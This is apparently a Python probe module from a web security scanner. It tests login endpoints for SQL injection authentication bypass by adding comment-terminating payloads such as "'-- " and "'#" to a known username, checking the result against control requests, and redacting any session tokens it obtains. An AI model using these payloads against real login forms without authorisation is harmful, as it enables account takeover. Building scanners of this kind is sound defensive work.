"""A login that is talked out of its password: `name'-- ` makes the rest of the query a comment."""

from collections.abc import Mapping
from dataclasses import dataclass, replace
from typing import Final

from withstand.client.exchange import Exchange, Response
from withstand.client.field_names import is_password
from withstand.openapi.request_builder import Slot, Unbuildable
from withstand.scan.answers.shape import leaves
from withstand.scan.check import Failed, Steps, send, shown
from withstand.scan.finding import Confidence
from withstand.scan.probes.inputs import is_login, named
from withstand.scan.subject import Subject

_ENDINGS: Final = ("'-- ", "'#", "')-- ", "' OR '1'='2'-- ")
_SHORTEST_TOKEN: Final = 20


@dataclass(frozen=True, slots=True, kw_only=True)
class _Place:
    """Where a login takes name and password, and somebody whom the scan may log in as."""

    name: Slot
    password: Slot
    known_name: str
    known_password: str


def by_login(subject: Subject) -> Steps[Failed | None]:
    """The known user's name with a comment behind it and a wrong password logs that user in.

    The name alone with a wrong password must not, nor an unknown name with the comment.
    """
    place = _place(subject)
    if place is None:
        return None
    wrong = f"Wrong1!{subject.nonce()[2:14]}"
    for ending in _ENDINGS:
        bypass = yield from _tried(subject, place, place.known_name + ending, wrong)
        if bypass is None or bypass.response is None:
            return None
        if bypass.response.status >= 400:
            continue
        alone = yield from _tried(subject, place, place.known_name, wrong)
        nobody = yield from _tried(subject, place, _unknown(place, subject.nonce()) + ending, wrong)
        right = yield from _tried(subject, place, place.known_name, place.known_password)
        if alone is None or nobody is None or right is None or right.response is None:
            return None
        success = _what_it_gives(right.response)
        refusals = [_what_it_gives(each.response) for each in (alone, nobody) if each.response]
        if success in refusals or _what_it_gives(bypass.response) != success:
            return None
        return Failed(
            detail=f"SQL in {named(place.name)} logs a known user in without the password.",
            evidence=(
                shown(
                    f"The name with {ending.strip()} behind it and a wrong password",
                    _concealed(bypass),
                ),
                shown("The name alone with that password", alone),
                shown("An unknown name with the same ending", nobody),
            ),
            parameter=named(place.name),
            confidence=Confidence.CERTAIN,
        )
    return None


def _place(subject: Subject) -> _Place | None:
    operation = subject.operation
    if operation is None or not is_login(subject):
        return None
    slots = [slot for slot in subject.builder.slots(operation) if slot.location == "body"]
    password = next((slot for slot in slots if is_password(slot.name)), None)
    user = subject.throwaway or next(iter(subject.identities), None)
    if password is None or user is None or "password" not in user.fields:
        return None
    for slot in slots:
        name = _name_of(slot, user.fields)
        if slot.is_text and slot != password and name is not None:
            return _Place(
                name=slot,
                password=password,
                known_name=name,
                known_password=user.fields["password"],
            )
    return None


def _name_of(slot: Slot, fields: Mapping[str, str]) -> str | None:
    own = slot.name.rpartition(".")[2]
    if own in fields:
        return fields[own]
    return next((fields[key] for key in ("username", "email", "login") if key in fields), None)


def _unknown(place: _Place, nonce: str) -> str:
    """A name of the known one's form that nobody has."""
    _, at, domain = place.known_name.rpartition("@")
    return f"{nonce}@{domain}" if at else nonce


def _tried(subject: Subject, place: _Place, name: str, password: str) -> Steps[Exchange | None]:
    chosen: dict[Slot, object] = {place.name: name, place.password: password}
    fixed = subject.baseline.fixed if subject.baseline is not None else {}
    try:
        built = subject.build(replace={**fixed, **chosen})
    except Unbuildable:
        return None
    return (yield from send(built.request))


def _concealed(exchange: Exchange) -> Exchange:
    """The exchange without the session that it gives: the user is a real one."""
    response = exchange.response
    assert response is not None, "only an answer can give a session"
    text = response.text
    for token in _tokens(response):
        text = text.replace(token, "(a token)")
    headers = tuple(
        (name, f"{value.partition('=')[0]}=(a session)" if name.lower() == "set-cookie" else value)
        for name, value in response.headers
    )
    return replace(exchange, outcome=replace(response, headers=headers, body=text.encode()))


def _tokens(response: Response) -> list[str]:
    return [
        value
        for _, value in leaves(response.json())
        if isinstance(value, str) and len(value) >= _SHORTEST_TOKEN and " " not in value
    ]


def _what_it_gives(response: Response) -> tuple[object, ...]:
    """What tells one who is logged in: status, where it leads, a token, a cookie."""
    cookies = sorted(value.partition("=")[0] for value in response.header_values("set-cookie"))
    place = (response.header("location") or "").partition("?")[0]
    return response.status, place, bool(_tokens(response)), tuple(cookies)
